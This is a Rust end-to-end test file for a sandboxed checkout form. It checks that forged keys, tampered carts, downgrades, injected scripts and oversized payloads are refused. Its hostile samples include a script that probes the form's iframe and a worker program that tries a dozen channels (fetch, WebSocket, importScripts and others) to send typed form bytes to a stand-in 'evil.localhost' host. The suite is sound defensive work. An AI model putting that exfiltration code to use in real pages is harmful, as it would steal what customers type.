//! What somebody on the way, at the service or in the shop's own page may try.

use serde_json::json;

use crate::browser::{NAME, Visit, filled};
use crate::town::{Attack, Plan, Town};

/// Orders under an attack: the form says why not, keeps what was typed, and nothing arrives.
fn refused(attack: Attack, code: &str) {
    let town = Town::start(Plan {
        attack,
        ..Plan::default()
    });
    let visit = Visit::ordering(&town.page());
    assert_eq!(
        (visit.code(), town.arrived()),
        (code, 0),
        "{attack:?} {:#}",
        visit.0
    );
    assert!(
        visit.text("left").contains(NAME),
        "{attack:?} {:#}",
        visit.0
    );
    assert!(!visit.text("text").is_empty(), "{attack:?}");
}

#[test]
#[ignore = "needs TEGATA_CHROMIUM: run cargo xtask test"]
fn a_key_that_the_service_substituted_is_refused() {
    refused(Attack::KeySubstituted, "forged");
    refused(Attack::ServiceMade, "forged");
}

#[test]
#[ignore = "needs TEGATA_CHROMIUM: run cargo xtask test"]
fn a_key_of_another_shop_or_scheme_is_refused() {
    refused(Attack::OtherShop, "key_refused");
    refused(Attack::OtherScheme, "key_refused");
    refused(Attack::LongFallback, "key_refused");
}

#[test]
#[ignore = "needs TEGATA_CHROMIUM: run cargo xtask test"]
fn a_program_altered_by_one_byte_is_never_run() {
    refused(Attack::ProgramAltered, "program_refused");
}

#[test]
#[ignore = "needs TEGATA_CHROMIUM: run cargo xtask test"]
fn a_downgrade_is_refused() {
    refused(Attack::Downgrade, "downgrade");
}

#[test]
#[ignore = "needs TEGATA_CHROMIUM: run cargo xtask test"]
fn an_expired_key_is_refused() {
    refused(Attack::KeyExpired, "key_expired");
}

#[test]
#[ignore = "needs TEGATA_CHROMIUM: run cargo xtask test"]
fn a_cart_that_the_shop_didnt_sign_is_refused() {
    let town = Town::start(Plan {
        attack: Attack::CartChanged,
        ..Plan::default()
    });
    let visit = Visit::of(&json!({"url": town.page(), "presses": 0}));
    assert_eq!(
        (visit.code(), town.arrived()),
        ("cart_changed", 0),
        "{:#}",
        visit.0
    );
    assert_eq!(visit.0["disabled"], true);
}

#[test]
#[ignore = "needs TEGATA_CHROMIUM: run cargo xtask test"]
fn a_receipt_of_another_order_is_noticed() {
    let town = Town::start(Plan {
        attack: Attack::WrongReceipt,
        ..Plan::default()
    });
    assert_eq!(Visit::ordering(&town.page()).code(), "receipt_refused");
}

/// Once it fails, what was typed stays; pressed again, the order goes through, once.
fn mended(attack: Attack) {
    let town = Town::start(Plan {
        attack,
        ..Plan::default()
    });
    let visit = Visit::of(&json!({"url": town.page(), "fill": filled(), "presses": 2}));
    assert_eq!(visit.code(), "taken", "{attack:?} {:#}", visit.0);
    assert_eq!(town.order().form.text("name"), Some(NAME));
}

#[test]
#[ignore = "needs TEGATA_CHROMIUM: run cargo xtask test"]
fn what_was_typed_survives_until_the_service_is_back() {
    mended(Attack::ServiceAway);
    mended(Attack::StockEmpty);
}

#[test]
#[ignore = "needs TEGATA_CHROMIUM: run cargo xtask test"]
fn what_was_typed_survives_until_the_shop_is_back() {
    mended(Attack::ShopAway);
}

#[test]
#[ignore = "needs TEGATA_CHROMIUM: run cargo xtask test"]
fn an_old_page_fetches_a_fresh_token() {
    let town = Town::start(Plan {
        attack: Attack::TokenExpired,
        ..Plan::default()
    });
    // The total is new to the person: it's shown, and a second press agrees to it.
    let visit = Visit::of(&json!({"url": town.page(), "fill": filled(), "presses": 2}));
    assert_eq!(visit.code(), "taken", "{:#}", visit.0);
    assert_eq!(town.arrived(), 1);
    // It's another order than the page was made for: the shop says where its own page is.
    assert!(
        visit.text("address").ends_with("#thanks-1"),
        "{:#}",
        visit.0
    );
}

#[test]
#[ignore = "needs TEGATA_CHROMIUM: run cargo xtask test"]
fn without_javascript_or_webcrypto_nothing_is_sent_in_clear() {
    let town = Town::start(Plan::default());
    let none = Visit::of(&json!({"url": town.page(), "javascript": false}));
    assert!(
        none.text("text").contains("needs JavaScript"),
        "{:#}",
        none.0
    );
    assert!(
        none.text("frameText").contains("needs JavaScript"),
        "{:#}",
        none.0
    );
    assert_eq!(none.0["disabled"], true);
    let before = "Object.defineProperty(crypto, 'subtle', {value: undefined})";
    let weak = Visit::of(&json!({"url": town.page(), "before": before, "presses": 0}));
    assert_eq!(weak.code(), "no_crypto", "{:#}", weak.0);
    assert_eq!((&weak.0["disabled"], town.arrived()), (&json!(true), 0));
}

/// A script in the shop's own page looks everywhere it can for what is typed.
#[test]
#[ignore = "needs TEGATA_CHROMIUM: run cargo xtask test"]
fn a_script_injected_into_the_shops_page_sees_nothing_typed() {
    let town = Town::start(Plan::default());
    let look = "(() => { const seen = []; const frame = document.querySelector('iframe'); \
        for (const look of [() => frame.contentDocument, () => frame.contentWindow.document.body, \
        () => frame.contentWindow.eval('1'), () => frame.contentWindow.form]) \
        try { const found = look(); if (found) seen.push(String(found)) } catch {} \
        return JSON.stringify(seen) })()";
    let spy = "globalThis.__heard = []; addEventListener('message', event => \
        globalThis.__heard.push(JSON.stringify(event.data)))";
    let visit = Visit::of(&json!({
        "url": town.page(), "fill": filled(), "before": spy, "look": look,
    }));
    assert_eq!(visit.code(), "taken", "{:#}", visit.0);
    assert_eq!(visit.text("look"), "[]");
}

#[test]
#[ignore = "needs TEGATA_CHROMIUM: run cargo xtask test"]
fn a_hand_out_made_to_choke_the_browser_is_refused() {
    refused(Attack::NestingBomb, "unreadable");
    refused(Attack::LengthBomb, "unreadable");
}

/// A program that the shop was brought to sign for, and that wants the form out: every way that a
/// worker has is tried with the form's own bytes.
const HOSTILE: &str = r#"
onmessage = async ({data: {form}}) => {
  const text = Array.from(form.slice(0, 60), byte => byte.toString(16).padStart(2, '0')).join('')
  const tried = []
  const origins = [location.origin, 'http://evil.localhost:' + location.port]
  const told = target => new Promise((done, failed) => {
    target.onopen = target.onload = target.onmessage = done
    target.onerror = failed
  })
  const ways = {
    fetch: address => fetch(address, {method: 'POST', body: text, mode: 'no-cors'}),
    keepalive: address => fetch(address, {keepalive: true, mode: 'no-cors'}),
    xhr: address => {
      const request = new XMLHttpRequest()
      request.open('GET', address)
      request.send()
      return told(request)
    },
    socket: address => told(new WebSocket(address.replace('http', 'ws'))),
    events: address => told(new EventSource(address)),
    scripts: address => importScripts(address),
    module: address => import(address),
    worker: address => told(new Worker(address)),
    nested: address => told(new Worker(URL.createObjectURL(
      new Blob([`fetch('${address}', {mode: 'no-cors'}).then(() => postMessage(1))`])))),
    transport: address => new WebTransport(address.replace('http:', 'https:')).ready,
    rtc: () => new RTCPeerConnection(),
    eval: () => eval('1'),
  }
  for (const origin of origins) for (const [name, way] of Object.entries(ways)) {
    try {
      await Promise.race([way(`${origin}/leak/${name}/${text}`),
        new Promise((_, late) => setTimeout(late, 800))])
      tried.push(name)
    } catch {}
  }
  postMessage('ways out: ' + tried.join(' '))
}
"#;

#[test]
#[ignore = "needs TEGATA_CHROMIUM: run cargo xtask test"]
fn nothing_leaves_the_worker_but_its_answer() {
    let town = Town::start(Plan {
        program: Some(HOSTILE),
        ..Plan::default()
    });
    let visit = Visit::ordering(&town.page());
    let outcome = (visit.code(), town.arrived());
    assert_eq!(outcome, ("program_failed", 0), "{:#}", visit.0);
    let seen = town.seen.lock().unwrap();
    assert!(seen.iter().any(|address| address.contains("/v1/keys")));
    let leaks: Vec<_> = seen.iter().filter(|a| a.contains("leak")).collect();
    assert!(leaks.is_empty(), "{leaks:?}");
}

#[test]
#[ignore = "needs TEGATA_CHROMIUM: run cargo xtask test"]
fn a_new_price_is_shown_and_agreed_to_before_anything_is_ordered() {
    let town = Town::start(Plan {
        attack: Attack::PriceChanged,
        ..Plan::default()
    });
    let plan = |presses: u8| json!({"url": town.page(), "fill": filled(), "presses": presses});
    // Refused; asked anew, the total is another; agreed to, it's ordered. What was typed stays.
    let visit = Visit::of(&plan(2));
    assert_eq!(
        (visit.code(), town.arrived()),
        ("total_changed", 0),
        "{:#}",
        visit.0
    );
    assert!(visit.text("total").contains("3,300") && visit.text("left").contains(NAME));
    *town.sent.lock().unwrap() = 0;
    let visit = Visit::of(&plan(3));
    assert_eq!(
        (visit.code(), town.arrived()),
        ("taken", 1),
        "{:#}",
        visit.0
    );
}

#[test]
#[ignore = "needs TEGATA_CHROMIUM: run cargo xtask test"]
fn an_order_that_was_taken_before_is_linked_to() {
    let town = Town::start(Plan {
        attack: Attack::OrderDiffers,
        ..Plan::default()
    });
    let look = "(() => { const known = document.querySelector('#order-known'); \
        return `${known.hidden} ${known.querySelector('a').getAttribute('href')}` })()";
    let visit = Visit::of(&json!({"url": town.page(), "fill": filled(), "look": look}));
    assert_eq!(visit.code(), "order_differs", "{:#}", visit.0);
    assert_eq!(visit.text("look"), "false #thanks");
}
